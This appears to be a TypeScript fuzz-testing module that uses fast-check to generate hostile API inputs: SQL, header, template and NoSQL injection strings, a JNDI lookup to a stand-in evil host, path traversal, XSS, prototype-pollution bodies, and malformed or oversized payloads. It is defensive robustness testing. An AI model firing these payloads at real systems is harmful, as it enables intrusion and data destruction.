import fc from 'fast-check';
import type { JsonSchema } from './openapi-operations.ts';

/** Strings attackers send: SQL, header and log injection, template and path tricks, odd Unicode. */
export const HOSTILE_STRINGS: readonly string[] = [
  "' OR 1=1--",
  "'; DROP TABLE projects; --",
  '1; SELECT pg_sleep(10)',
  '" OR ""="',
  "admin'/*",
  '\r\nSet-Cookie: pwned=1',
  'x\r\nX-Injected: 1',
  '%0d%0aLocation:%20https://evil.example',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '\u0000',
  'a\u0000b',
  '\u0007\u0008\u001b[31m',
  '\uD800',
  '\uDFFF\uD800',
  '\u202Egnp.exe',
  '\uFEFF',
  '🦄'.repeat(50),
  '__proto__',
  'constructor',
  'NaN',
  '-1',
  '1e309',
  '99999999999999999999999999999',
  '',
  ' ',
];

/** Strings past every maxLength of the contract, and past the body limit once encoded. */
const hugeString = fc.constantFrom(201, 501, 5_001, 10_001, 70_000).map((length) => 'x'.repeat(length));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
  { weight: 1, arbitrary: hugeString },
);

/** Objects and arrays nested deeper than any sane client would. */
const deeplyNested = fc.integer({ min: 20, max: 1_000 }).map((depth) => {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i += 1) value = i % 2 === 0 ? { a: value } : [value];
  return value;
});

export const hostileJsonValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.constantFrom(0, -1, 1.5, Number.MAX_SAFE_INTEGER, 1e308, -0) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.array(fc.constant('item'), { minLength: 0, maxLength: 3 }) },
  { weight: 1, arbitrary: fc.constantFrom(1_000, 20_000).map((n) => Array.from({ length: n }, () => 1)) },
  { weight: 1, arbitrary: deeplyNested },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** Values that satisfy the schema (so some generated requests are valid and do write). */
export function validValue(schema: JsonSchema): fc.Arbitrary<unknown> {
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map(validValue));
  if (schema.enum) return fc.constantFrom(...schema.enum);
  switch (schema.type) {
    case 'null':
      return fc.constant(null);
    case 'integer':
      return fc.integer({ min: schema.minimum ?? -1000, max: schema.maximum ?? 1000 });
    case 'boolean':
      return fc.boolean();
    case 'object': {
      const required = new Set(schema.required ?? []);
      const entries = Object.entries(schema.properties ?? {});
      return fc.record(Object.fromEntries(entries.map(([name, property]) => [name, validValue(property)])), {
        requiredKeys: entries.map(([name]) => name).filter((name) => required.has(name)),
      });
    }
    case 'string':
    default:
      if (schema.format === 'uuid') return fc.uuid();
      if (schema.format === 'date') return fc.constantFrom('2030-01-31', '2024-02-29', '1999-12-31');
      if (schema.pattern)
        return fc
          .stringMatching(new RegExp(schema.pattern))
          .filter((s) => s.length >= (schema.minLength ?? 0) && s.length <= (schema.maxLength ?? 128));
      return fc.string({ minLength: schema.minLength ?? 0, maxLength: Math.min(schema.maxLength ?? 40, 40) });
  }
}

/** A valid object broken in one way: a field dropped, added, or given a hostile value. */
export function mutatedObject(schema: JsonSchema): fc.Arbitrary<unknown> {
  const names = Object.keys(schema.properties ?? {});
  return fc
    .tuple(
      validValue(schema) as fc.Arbitrary<Record<string, unknown>>,
      fc.constantFrom('drop', 'extra', 'hostile', 'proto'),
      fc.constantFrom(...names),
      hostileJsonValue,
      fc.constantFrom('owner', 'id', 'version', 'projectId', 'role', 'createdAt', '$where', ''),
    )
    .map(([value, how, name, hostile, extraName]) => {
      const copy: Record<string, unknown> = { ...value };
      if (how === 'drop') delete copy[name];
      if (how === 'extra') copy[extraName] = hostile;
      if (how === 'hostile') copy[name] = hostile;
      if (how === 'proto') return JSON.parse(`{"__proto__":{"admin":true},${JSON.stringify(copy).slice(1)}`) as unknown;
      return copy;
    });
}

/** A body as bytes on the wire: JSON of a (mostly broken) value, or bytes that are not JSON at all. */
export function hostileBody(
  schema: JsonSchema | undefined,
  bodyLimitBytes: number,
): fc.Arbitrary<Buffer | string | undefined> {
  const structured: fc.Arbitrary<unknown>[] = [hostileJsonValue];
  if (schema) structured.push(validValue(schema), validValue(schema), mutatedObject(schema), mutatedObject(schema));
  return fc.oneof(
    { weight: 6, arbitrary: fc.oneof(...structured).map((value) => JSON.stringify(value) ?? 'null') },
    {
      weight: 3,
      arbitrary: fc.constantFrom<Buffer | string | undefined>(
        undefined,
        '',
        '{"name": ',
        '{',
        '[',
        'nul',
        '{"name":"x"} trailing',
        '{"name":"x",}',
        "{'name':'x'}",
        '\u0000',
        '{"constructor":{"prototype":{"admin":true}}}',
        `${'['.repeat(10_000)}${']'.repeat(10_000)}`,
        // Invalid UTF-8 inside a JSON string: a lone continuation byte, an overlong encoding, a lone surrogate.
        Buffer.concat([
          Buffer.from('{"name":"'),
          Buffer.from([0x80, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xff]),
          Buffer.from('"}'),
        ]),
        Buffer.from([0xff, 0xfe, 0x00, 0x7b]),
        JSON.stringify({ name: 'x', description: 'y'.repeat(bodyLimitBytes) }),
        'x'.repeat(bodyLimitBytes * 4),
      ),
    },
  );
}

export const hostileContentType = fc.oneof(
  fc.constant('application/json'),
  fc.constantFrom<string | undefined>(
    'application/json; charset=utf-8',
    'application/json; charset=latin1',
    'application/problem+json',
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=xyz',
    'application/xml',
    'application/json, text/plain',
    '*/*',
    '',
    undefined,
  ),
);

/** Query values for pagination and filters: valid ones and absurd ones. */
export const hostileQueryValue: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('0', '-1', '1', '20', '100', '101', '1e3', '1.5', '0x10', 'NaN', 'Infinity', '9'.repeat(400), ''),
  // Cursors: random base64url, JSON cursors with non-id or SQL content, and past the 512 length limit.
  fc.constantFrom(
    Buffer.from('{"after":"\' OR 1=1--"}').toString('base64url'),
    Buffer.from('{"after":{"$gt":""}}').toString('base64url'),
    Buffer.from('{"after":null}').toString('base64url'),
    Buffer.from('[]').toString('base64url'),
    Buffer.from('{"after":"ffffffff-ffff-ffff-ffff-ffffffffffff"}').toString('base64url'),
    Buffer.from('{"after":"00000000-0000-0000-0000-000000000000"}').toString('base64url'),
    'A'.repeat(600),
    '%%%',
  ),
  fc.base64String({ maxLength: 64 }),
  hostileString,
);

/** Raw query strings a URL encoder would never write. */
export const rawHostileQuery = fc.constantFrom(
  '',
  '?limit=1&limit=2',
  '?limit[$gt]=1',
  '?cursor[]=x',
  '?%',
  '?limit=%ZZ',
  '?status=todo&status=done',
  '?assigneeId=%00',
  '?limit=%F0%9F%A6%84',
  '?' + 'a=1&'.repeat(2_000),
);
